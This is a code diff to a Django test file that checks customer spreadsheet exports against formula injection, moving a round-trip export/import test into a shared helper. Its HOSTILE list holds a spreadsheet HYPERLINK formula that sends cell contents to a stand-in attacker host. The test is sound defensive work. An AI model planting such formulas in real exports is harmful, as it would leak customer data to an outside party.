@@ -9,10 +9,9 @@ import io
 import zipfile
 
 import pytest
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 from django.urls import reverse
-from django_scopes import scope, scopes_disabled
+from django_scopes import scope
 
 from common.spreadsheet import FORMULA_STARTS, cell_in, cell_out
 from customers.models import Customer
@@ -21,7 +20,7 @@ from kartes.services import ItemInput, karte_create
 from transfer.models import ExportJob
 
 from .test_counselling_sheet import _answers, _link, _ready_sheet
-from .test_exports import CREATE, download, held_exports  # noqa: F401 (a fixture)
+from .test_exports import CREATE, download, held_exports, round_trip  # noqa: F401 (a fixture)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&B2,"x")',
@@ -92,22 +91,5 @@ def test_no_cell_of_any_export_starts_a_formula(salon_a, own_storage, held_expor
 def test_an_export_with_formulas_imports_back_unchanged(salon_a, salon_b, own_storage, held_exports):  # noqa: F811
     _plant(salon_a)
     fields = ("number", "name", "kana", "memo", "address")
-    with salon_a.scope():
-        before = list(Customer.objects.order_by("number").values(*fields))
-    client = salon_a.client()
-    client.post(CREATE, {"kind": "customers", "encoding": "utf-8-sig"})
-    held_exports()
-    with salon_a.scope():
-        data = download(client, ExportJob.objects.get())
-    with scopes_disabled():
-        Customer.objects.filter(salon=salon_b.salon).delete()
-    other = salon_b.client()
-    response = other.post(
-        reverse("staff:customer_import_upload"), {"file": SimpleUploadedFile("e.csv", data)}
-    )
-    expected = other.get(response.url).context["valid_count"]
-    assert expected == len(before)
-    other.post(response.url, {"expected": str(expected)})
-    with scope(salon=salon_b.salon):
-        after = list(Customer.objects.order_by("number").values(*fields))
-    assert after == before
+    before, after = round_trip(salon_a, salon_b, held_exports, fields=fields, encoding="utf-8-sig")
+    assert HOSTILE[0] in [row["name"] for row in before] and after == before
